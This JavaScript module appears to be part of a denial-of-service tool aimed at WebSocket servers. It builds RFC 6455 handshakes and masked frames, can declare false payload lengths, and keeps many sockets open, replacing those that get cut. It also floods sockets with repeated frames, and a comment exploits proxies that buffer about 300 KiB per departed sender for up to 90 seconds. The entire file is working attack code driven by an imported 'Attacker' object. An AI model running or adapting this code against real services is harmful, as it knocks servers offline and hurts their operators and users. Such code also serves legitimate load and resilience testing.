/** What a client of WebSockets sends: RFC 6455 sections 4 and 5. */

const handshake = {
  Connection: 'Upgrade',
  Upgrade: 'websocket',
  'Sec-WebSocket-Version': '13',
  'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==',
};

export const compressed = {
  'Sec-WebSocket-Extensions': 'permessage-deflate; client_max_window_bits',
};

export const opcodes = { continuation: 0, text: 1, binary: 2, ping: 9 };

/** A proxy delivers what it holds of a sender who has left, some 300 KiB a connection; so long it may take. */
export const heldByProxySeconds = 90;

/**
 * @param {import('./attacker.js').Attacker} attacker
 * @param {string} path
 * @param {Record<string, string>} [headers]
 */
export function handshakeOf(attacker, path, headers) {
  return attacker.bytes('GET', path, { headers: { ...handshake, ...headers } });
}

/**
 * A frame whose mask is nothing.
 *
 * @param {number} opcode
 * @param {string | Buffer} payload
 * @param {{isFinal?: boolean, isCompressed?: boolean, length?: number}} [options] `length` in place of the payload's
 */
export function frame(opcode, payload, options = {}) {
  const bytes = Buffer.from(/** @type {string} */ (payload));
  const { isFinal = true, isCompressed = false, length = bytes.length } = options;
  const short = length < 126 ? length : length < 65_536 ? 126 : 127;
  const lengthBytes = short < 126 ? 0 : short === 126 ? 2 : 8;
  const head = Buffer.alloc(2 + lengthBytes + 4);
  head[0] = (isFinal ? 0x80 : 0) | (isCompressed ? 0x40 : 0) | opcode;
  head[1] = 0x80 | short;
  if (short === 126) head.writeUInt16BE(length, 2);
  if (short === 127) head.writeBigUInt64BE(BigInt(length), 2);
  return Buffer.concat([head, bytes]);
}

/**
 * Opens sockets, hands over each once it is open, and replaces those that are cut, until time is up.
 *
 * @param {import('./attacker.js').Attacker} attacker
 * @param {number} count
 * @param {(index: number) => string} handshakeFor
 * @param {(socket: import('node:net').Socket) => void} use
 */
export async function keepOpen(attacker, count, handshakeFor, use) {
  let missing = count;
  while (!attacker.isOver()) {
    const opening = attacker.openMany(missing, (socket, index) => {
      socket.write(handshakeFor(index));
      socket.once('data', () => use(socket));
    });
    const sockets = await Promise.race([opening, attacker.untilOver().then(() => [])]);
    missing = Math.ceil(count / 4);
    await attacker.until(() => sockets.filter(({ destroyed }) => destroyed).length >= missing);
  }
}

/**
 * Sends the same over and over, as fast as it is taken.
 *
 * @param {import('node:net').Socket} socket
 * @param {Buffer} bytes
 */
export function flood(socket, bytes) {
  const more = () => {
    while (!socket.destroyed && socket.write(bytes));
  };
  socket.on('drain', more);
  more();
}
